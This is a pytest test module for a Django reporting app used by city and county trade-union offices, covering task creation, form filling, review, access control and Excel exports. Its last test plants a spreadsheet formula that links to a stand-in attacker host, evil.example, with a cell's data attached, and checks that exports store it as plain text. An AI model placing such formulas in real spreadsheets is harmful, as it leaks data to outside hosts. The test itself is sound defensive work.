from __future__ import annotations

import io
from datetime import timedelta

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from apps.core.indicators import all_indicators
from apps.core.models import Organization
from apps.core.uploads import private_file_url
from apps.notifications.models import Notification
from apps.reports import services
from apps.reports.models import ExportJob, ReportField, ReportTask, Submission
from tests.factories import make_organization, make_staff

from .factories import GOOD_VALUES, make_task

pytestmark = pytest.mark.django_db


def _submission(task, org) -> Submission:
    return Submission.objects.get(round__task=task, organization=org)


def _post_values(**overrides):
    return {**{k: str(v) for k, v in GOOD_VALUES.items()}, **overrides}


# --- the city office builds a task ---------------------------------------------------------------

def test_city_office_creates_a_task_through_the_form(client, city_staff):
    client.force_login(city_staff)
    today = timezone.localdate()
    response = client.post(reverse("reports:task_create"), {
        "title": "复工复产专项报告", "instructions": "请填报", "audience": "counties", "period": "once",
        "start_date": today.isoformat(), "end_date": today.isoformat(),
        "due_date": (today + timedelta(days=5)).isoformat(), "due_days_after": 3, "grace_days": 1,
        "remind_days_before": 2})
    task = ReportTask.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("reports:task_detail", args=[task.pk])
    assert task.status == ReportTask.Status.DRAFT and task.created_by == city_staff


def test_task_form_shows_chinese_errors_and_saves_nothing(client, city_staff):
    client.force_login(city_staff)
    response = client.post(reverse("reports:task_create"), {
        "title": "", "audience": "chosen", "period": "once", "start_date": "2026-03-10", "end_date": "2026-03-01",
        "due_days_after": 3, "grace_days": 1, "remind_days_before": 2})
    assert response.status_code == 200
    form = response.context["form"]
    assert "统计截止日期不能早于起始日期。" in form.errors["end_date"]
    assert "一次性任务请填写报送截止日期。" in form.errors["due_date"]
    assert "请选择需要报送的组织。" in form.errors["chosen_organizations"]
    assert not ReportTask.objects.exists()


def test_staff_adds_an_indicator_field_and_a_rule(client, city_staff, org_tree):
    task = make_task(city_staff, publish=False, fields=[], rules=[])
    client.force_login(city_staff)
    url = reverse("reports:task_detail", args=[task.pk])
    page = client.get(url)
    assert "撮合就业人数" in page.content.decode()  # the registered test indicator is offered
    client.post(url, {"add_field": "1", "field-label": "平台撮合", "field-kind": "indicator",
                      "field-indicator_key": "testapp.hires", "field-group": "平台指标"})
    client.post(url, {"add_field": "1", "field-label": "达成就业", "field-kind": "number", "field-group": "就业",
                      "field-required": "on"})
    assert task.fields.count() == 2
    left, right = task.fields.get(kind="number").key, task.fields.get(kind="indicator").key
    client.post(url, {"add_rule": "1", "rule-left": left, "rule-operator": "le", "rule-right": right,
                      "rule-message": "不能多于平台撮合数。"})
    assert task.rules.get().message == "不能多于平台撮合数。"


def test_choice_field_with_one_option_is_refused(client, city_staff, org_tree):
    task = make_task(city_staff, publish=False, fields=[], rules=[])
    client.force_login(city_staff)
    response = client.post(reverse("reports:task_detail", args=[task.pk]), {
        "add_field": "1", "field-label": "进展", "field-kind": "choice", "field-choices": "只有一个"})
    assert "选项类型至少需要两个选项，每行一个。" in response.context["field_form"].errors["choices"]
    assert not task.fields.exists()


def test_publish_through_the_page_notifies_districts(client, city_staff, xiuwu_staff, org_tree,
                                                     django_capture_on_commit_callbacks):
    task = make_task(city_staff, publish=False)
    client.force_login(city_staff)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("reports:task_publish", args=[task.pk]))
    task.refresh_from_db()
    assert task.status == ReportTask.Status.ACTIVE
    assert Notification.objects.filter(recipient=xiuwu_staff, title__contains=task.title).exists()


# --- the district officer fills in ---------------------------------------------------------------

def test_form_shows_live_indicator_with_link_to_records(client, city_staff, xiuwu_staff, org_tree, test_indicator):
    test_indicator[org_tree.xiuwu.pk] = 42
    task = make_task(city_staff)
    client.force_login(xiuwu_staff)
    response = client.get(reverse("reports:submission_edit", args=[_submission(task, org_tree.xiuwu).pk]))
    body = response.content.decode()
    assert response.status_code == 200
    assert ">42</span>" in body and f"/jobs/?org={org_tree.xiuwu.pk}" in body


def test_uninstalled_indicator_is_shown_as_unavailable(client, city_staff, xiuwu_staff, org_tree, monkeypatch):
    task = make_task(city_staff)
    from apps.core import indicators as core_indicators

    core_only = {k: v for k, v in core_indicators.all_indicators().items() if k.startswith("core.")}
    monkeypatch.setattr(core_indicators, "all_indicators", lambda: core_only)
    client.force_login(xiuwu_staff)
    submission = _submission(task, org_tree.xiuwu)
    for name in ("submission_edit", "submission_detail"):
        response = client.get(reverse(f"reports:{name}", args=[submission.pk]))
        assert response.status_code == 200 and "指标不可用" in response.content.decode()
    client.force_login(city_staff)
    assert "指标不可用" in client.get(reverse("reports:task_detail", args=[task.pk])).content.decode()


def test_officer_saves_a_draft_then_submits(client, city_staff, xiuwu_staff, org_tree):
    task = make_task(city_staff)
    submission = _submission(task, org_tree.xiuwu)
    client.force_login(xiuwu_staff)
    url = reverse("reports:submission_edit", args=[submission.pk])
    client.post(url, {"draft": "1", "applications": "100", "hired": "", "narrative": ""})
    submission.refresh_from_db()
    assert submission.status == Submission.Status.DRAFT and submission.values["applications"] == 100
    response = client.post(url, {"submit": "1", **_post_values()})
    assert response.status_code == 302
    submission.refresh_from_db()
    assert submission.status == Submission.Status.SUBMITTED and submission.version_count == 1


@pytest.mark.parametrize(("value", "message"), [("很多", "请输入数字。"), ("-3", "不能为负数。")])
def test_number_field_error_shown_next_to_the_field(client, city_staff, xiuwu_staff, org_tree, value, message):
    task = make_task(city_staff)
    submission = _submission(task, org_tree.xiuwu)
    client.force_login(xiuwu_staff)
    response = client.post(reverse("reports:submission_edit", args=[submission.pk]),
                           {"submit": "1", **_post_values(applications=value)})
    assert response.status_code == 200
    assert message in response.context["form"].errors["applications"]
    submission.refresh_from_db()
    assert submission.status == Submission.Status.PENDING and submission.values == {}


def test_rule_violation_marks_both_fields(client, city_staff, xiuwu_staff, org_tree):
    task = make_task(city_staff)
    client.force_login(xiuwu_staff)
    response = client.post(reverse("reports:submission_edit", args=[_submission(task, org_tree.xiuwu).pk]),
                           {"submit": "1", **_post_values(hired="999")})
    errors = response.context["form"].errors
    assert errors["hired"] == ["达成就业人数不能多于求职申请人次。"] == errors["applications"]
    assert "达成就业人数不能多于求职申请人次。" in response.content.decode()
    assert not _submission(task, org_tree.xiuwu).versions.exists()


def test_rule_against_an_indicator_shows_a_form_level_message(client, city_staff, xiuwu_staff, org_tree,
                                                               test_indicator):
    test_indicator[org_tree.xiuwu.pk] = 50
    task = make_task(city_staff, rules=[{"left": "hired", "operator": "ge", "right": "hires",
                                         "message": "不应少于平台撮合人数。"}])
    client.force_login(xiuwu_staff)
    response = client.post(reverse("reports:submission_edit", args=[_submission(task, org_tree.xiuwu).pk]),
                           {"submit": "1", **_post_values(hired="10")})
    form = response.context["form"]
    assert "不应少于平台撮合人数。" in form.errors["hired"]
    assert any("撮合就业人数（平台）" in e for e in form.non_field_errors())


@pytest.mark.parametrize(("payload", "message"), [
    (b"just some text, not a pdf", "文件类型不符"),
    (b"%PDF-1.4 " + b"0" * (11 * 1024 * 1024), "文件过大"),
])
def test_wrong_file_type_or_size_is_refused(client, city_staff, xiuwu_staff, org_tree, payload, message):
    task = make_task(city_staff, fields=[{"key": "material", "label": "相关材料", "kind": "file"}], rules=[])
    submission = _submission(task, org_tree.xiuwu)
    client.force_login(xiuwu_staff)
    upload = SimpleUploadedFile("材料.pdf", payload, content_type="application/pdf")
    response = client.post(reverse("reports:submission_edit", args=[submission.pk]),
                           {"submit": "1", "material": upload})
    assert any(message in e for e in response.context["form"].errors["material"])
    assert not submission.files.exists()


def test_attachment_downloads_for_owner_and_city_but_not_another_district(client, city_staff, xiuwu_staff,
                                                                          boai_staff, org_tree):
    task = make_task(city_staff, fields=[{"key": "material", "label": "相关材料", "kind": "file"}], rules=[])
    submission = _submission(task, org_tree.xiuwu)
    client.force_login(xiuwu_staff)
    client.post(reverse("reports:submission_edit", args=[submission.pk]),
                {"submit": "1", "material": SimpleUploadedFile("a.pdf", b"%PDF-1.4 hello")})
    url = private_file_url(submission.files.get(), "file")
    assert client.get(url).status_code == 200
    client.force_login(city_staff)
    assert client.get(url).status_code == 200
    client.force_login(boai_staff)
    assert client.get(url).status_code == 404


def test_accepted_submission_has_no_edit_page(client, city_staff, xiuwu_staff, org_tree):
    task = make_task(city_staff)
    submission = services.submission_submit(actor=xiuwu_staff, submission=_submission(task, org_tree.xiuwu),
                                            values=GOOD_VALUES)
    services.submission_accept(actor=city_staff, submission=submission)
    client.force_login(xiuwu_staff)
    url = reverse("reports:submission_edit", args=[submission.pk])
    assert client.get(url).status_code == 302
    client.post(url, {"submit": "1", **_post_values(narrative="改了")})
    submission.refresh_from_db()
    assert submission.values["narrative"] == GOOD_VALUES["narrative"]


# --- review ----------------------------------------------------------------------------------------

def test_office_returns_with_comment_and_officer_sees_it(client, city_staff, xiuwu_staff, org_tree):
    task = make_task(city_staff)
    submission = services.submission_submit(actor=xiuwu_staff, submission=_submission(task, org_tree.xiuwu),
                                            values=GOOD_VALUES)
    client.force_login(city_staff)
    url = reverse("reports:submission_review", args=[submission.pk])
    client.post(url, {"action": "return", "comment": ""})
    submission.refresh_from_db()
    assert submission.status == Submission.Status.SUBMITTED  # a return needs a reason
    client.post(url, {"action": "return", "comment": "请补充典型案例。"})
    submission.refresh_from_db()
    assert submission.status == Submission.Status.RETURNED
    client.force_login(xiuwu_staff)
    page = client.get(reverse("reports:submission_edit", args=[submission.pk])).content.decode()
    assert "请补充典型案例。" in page


def test_versions_compare_marks_changed_fields(client, city_staff, xiuwu_staff, org_tree):
    task = make_task(city_staff)
    submission = services.submission_submit(actor=xiuwu_staff, submission=_submission(task, org_tree.xiuwu),
                                            values=GOOD_VALUES)
    services.submission_return(actor=city_staff, submission=submission, comment="改")
    services.submission_submit(actor=xiuwu_staff, submission=submission, values={**GOOD_VALUES, "hired": 40})
    client.force_login(city_staff)
    response = client.get(reverse("reports:submission_compare", args=[submission.pk]), {"a": 1, "b": 2})
    changed = [row["field"].key for row in response.context["rows"] if row["changed"]]
    assert changed == ["hired"]


# --- timeliness, overview, exports -------------------------------------------------------------------

def _many_counties(count: int):
    city = Organization.objects.get(org_type=Organization.Type.CITY)
    return [make_organization(f"测试县{i}总工会", Organization.Type.COUNTY, city) for i in range(count)]


def test_round_page_counts_and_lists_organisations_in_fixed_queries(
        client, city_staff, xiuwu_staff, boai_staff, org_tree, django_assert_max_num_queries):
    task = make_task(city_staff)
    services.submission_submit(actor=xiuwu_staff, submission=_submission(task, org_tree.xiuwu), values=GOOD_VALUES)
    round_ = task.rounds.get()
    client.force_login(city_staff)
    response = client.get(reverse("reports:round_detail", args=[round_.pk]))
    summary = response.context["summary"]
    assert (summary["expected"], summary["submitted"], summary["on_time"], summary["missing"]) == (2, 1, 1, 1)
    missing = client.get(reverse("reports:round_detail", args=[round_.pk]), {"status": "missing"})
    assert [s.organization for s in missing.context["submissions"]] == [org_tree.boai]
    _many_counties(30)
    services.rounds_ensure(task=make_task(city_staff, title="第二个"), today=timezone.localdate())
    other = ReportTask.objects.get(title="第二个").rounds.get()
    with django_assert_max_num_queries(15):
        assert client.get(reverse("reports:round_detail", args=[other.pk])).status_code == 200


def test_timeliness_page_fixed_queries_with_many_rounds(client, city_staff, org_tree,
                                                        django_assert_max_num_queries):
    _many_counties(20)
    task = make_task(city_staff, period=ReportTask.Period.WEEKLY, end_date=None, due_date=None,
                     start_date=timezone.localdate() - timedelta(weeks=30))
    assert task.rounds.count() >= 30
    client.force_login(city_staff)
    with django_assert_max_num_queries(16):  # one for the session's second-factor device
        response = client.get(reverse("reports:task_timeliness", args=[task.pk]))
    assert len(response.context["rates"]) == 22
    assert response.context["rates"][0]["expected"] >= 30


def test_overview_lists_every_county_with_indicator_totals(client, city_staff, org_tree, test_indicator):
    test_indicator.update({org_tree.xiuwu.pk: 5, org_tree.boai.pk: 7})
    client.force_login(city_staff)
    response = client.get(reverse("reports:overview"), {"indicator": "testapp.hires"})
    columns = [c.key for c in response.context["columns"]]
    index = columns.index("testapp.hires")
    assert response.context["totals"][index] == 12
    assert response.context["chart"]["values"][:2] == [5, 7]
    def cold_queries() -> int:
        cache.clear()
        with CaptureQueriesContext(connection) as captured:
            client.get(reverse("reports:overview"))
        return len(captured)

    few = cold_queries()
    _many_counties(40)
    # Fixed whatever the number of organisations: base queries plus a bounded few per installed indicator.
    assert cold_queries() == few
    assert few <= 14 + 2 * len(all_indicators())


def test_table_exports_are_excel_files(client, city_staff, org_tree):
    task = make_task(city_staff)
    client.force_login(city_staff)
    for url in (reverse("reports:overview") + "?format=xlsx",
                reverse("reports:task_timeliness", args=[task.pk]) + "?format=xlsx",
                reverse("reports:round_detail", args=[task.rounds.get().pk]) + "?format=xlsx"):
        response = client.get(url)
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        sheet = load_workbook(io.BytesIO(response.getvalue())).active
        assert sheet.cell(1, 1).value == "单位"


def test_round_export_runs_in_background_with_one_sheet_per_group(client, city_staff, xiuwu_staff, org_tree,
                                                                   django_capture_on_commit_callbacks):
    task = make_task(city_staff)
    services.submission_submit(actor=xiuwu_staff, submission=_submission(task, org_tree.xiuwu), values=GOOD_VALUES)
    client.force_login(city_staff)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("reports:round_export", args=[task.rounds.get().pk]))
    job = ExportJob.objects.get()
    assert response["Location"] == reverse("reports:export_detail", args=[job.pk])
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE and job.progress == 2
    page = client.get(response["Location"]).content.decode()
    assert "下载 Excel" in page and 'http-equiv="refresh"' not in page
    download = client.get(private_file_url(job, "file"))
    workbook = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    assert workbook.sheetnames == ["报送情况", "就业", "情况", "平台指标"]
    rows = list(workbook["就业"].values)
    assert rows[0] == ("单位", "求职申请人次", "线下招聘会达成就业人数")
    assert ("修武县总工会", 120, 30) in rows
    client.force_login(make_staff(org_tree.city, "city_office", username="another_office"))
    assert client.get(private_file_url(job, "file")).status_code == 404
    assert client.get(reverse("reports:export_detail", args=[job.pk])).status_code == 404


def test_pending_export_page_refreshes_itself(client, city_staff, org_tree):
    task = make_task(city_staff)
    job = ExportJob.objects.create(round=task.rounds.get(), requested_by=city_staff, total=2)
    client.force_login(city_staff)
    assert 'http-equiv="refresh"' in client.get(reverse("reports:export_detail", args=[job.pk])).content.decode()


def test_console_lists_reports_to_do(client, city_staff, xiuwu_staff, org_tree):
    make_task(city_staff)
    client.force_login(xiuwu_staff)
    todos = [t for group in client.get(reverse("core:console")).context["todo_groups"].values() for t in group]
    assert any(t.label == "待填报的落实情况报告" and t.count == 1 for t in todos)


def test_field_kinds_render_in_the_form(client, city_staff, xiuwu_staff, org_tree):
    task = make_task(city_staff, fields=[
        {"key": "d", "label": "开展日期", "kind": "date"},
        {"key": "c", "label": "进展", "kind": "choice", "choices": "按计划\n滞后"},
    ], rules=[])
    client.force_login(xiuwu_staff)
    submission = _submission(task, org_tree.xiuwu)
    response = client.post(reverse("reports:submission_edit", args=[submission.pk]),
                           {"submit": "1", "d": "2026-03-01", "c": "不存在"})
    assert "c" in response.context["form"].errors
    client.post(reverse("reports:submission_edit", args=[submission.pk]),
                {"submit": "1", "d": "2026-03-01", "c": "滞后"})
    submission.refresh_from_db()
    assert submission.values == {"d": "2026-03-01", "c": "滞后"}
    assert ReportField.objects.filter(task=task).count() == 2


def test_submitting_without_required_fields_marks_them(client, city_staff, xiuwu_staff, org_tree):
    task = make_task(city_staff)
    submission = _submission(task, org_tree.xiuwu)
    client.force_login(xiuwu_staff)
    page = client.get(reverse("reports:submission_edit", args=[submission.pk])).content.decode()
    assert "asteriskField" in page  # required fields are marked
    response = client.post(reverse("reports:submission_edit", args=[submission.pk]),
                           {"submit": "1", "applications": "10", "hired": "", "narrative": ""})
    assert set(response.context["form"].errors) == {"hired", "narrative"}
    submission.refresh_from_db()
    assert submission.status == Submission.Status.PENDING


def test_timeliness_shows_each_organisations_rate_per_month(client, city_staff, xiuwu_staff, boai_staff, org_tree):
    task = make_task(city_staff)
    services.submission_submit(actor=xiuwu_staff, submission=_submission(task, org_tree.xiuwu), values=GOOD_VALUES)
    client.force_login(city_staff)
    response = client.get(reverse("reports:task_timeliness", args=[task.pk]))
    month = f"{task.rounds.get().due_date:%Y-%m}"
    assert response.context["months"][-1] == month
    by_org = {row["organization_id"]: row["monthly"][-1] for row in response.context["rates"]}
    assert by_org == {org_tree.xiuwu.pk: 100, org_tree.boai.pk: 0}


def test_locked_round_sends_the_officer_back_with_a_reason(client, city_staff, xiuwu_staff, org_tree):
    today = timezone.localdate()
    task = make_task(city_staff, start_date=today - timedelta(days=30), end_date=today - timedelta(days=20),
                     due_date=today - timedelta(days=10), lock_after_days=3)
    submission = _submission(task, org_tree.xiuwu)
    client.force_login(xiuwu_staff)
    response = client.get(reverse("reports:submission_edit", args=[submission.pk]), follow=True)
    assert "本轮已锁定" in response.content.decode()


def test_list_pages_keep_a_fixed_number_of_queries(client, city_staff, xiuwu_staff, org_tree,
                                                   django_assert_max_num_queries):
    for number in range(12):
        task = make_task(city_staff, title=f"任务{number}")
        services.submission_submit(actor=xiuwu_staff, submission=_submission(task, org_tree.xiuwu),
                                   values=GOOD_VALUES)
    client.force_login(xiuwu_staff)
    with django_assert_max_num_queries(12):
        response = client.get(reverse("reports:my_submissions"))
    assert len(response.context["page_obj"]) == 12
    client.force_login(city_staff)
    for name in ("review_queue", "task_list"):
        with django_assert_max_num_queries(12):
            response = client.get(reverse(f"reports:{name}"))
        assert len(response.context["page_obj"]) == 12


def test_formulas_typed_by_a_filler_reach_the_exports_as_text(client, city_staff, xiuwu_staff, org_tree,
                                                              django_capture_on_commit_callbacks):
    formula = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
    Organization.objects.filter(pk=org_tree.xiuwu.pk).update(name="+修武县总工会")
    task = make_task(city_staff)
    services.submission_submit(actor=xiuwu_staff, submission=_submission(task, org_tree.xiuwu),
                               values={**GOOD_VALUES, "narrative": formula})
    client.force_login(city_staff)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("reports:round_export", args=[task.rounds.get().pk]))
    download = client.get(private_file_url(ExportJob.objects.get(), "file"))
    workbook = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    cells = {cell.value: cell for row in workbook["情况"].iter_rows() for cell in row}
    assert cells[formula].data_type == "s" and cells["+修武县总工会"].data_type == "s"
    table = client.get(reverse("reports:task_timeliness", args=[task.pk]) + "?format=xlsx")
    names = [cell for row in load_workbook(io.BytesIO(table.getvalue())).active.iter_rows() for cell in row
             if cell.value == "+修武县总工会"]
    assert names and all(cell.data_type == "s" for cell in names)
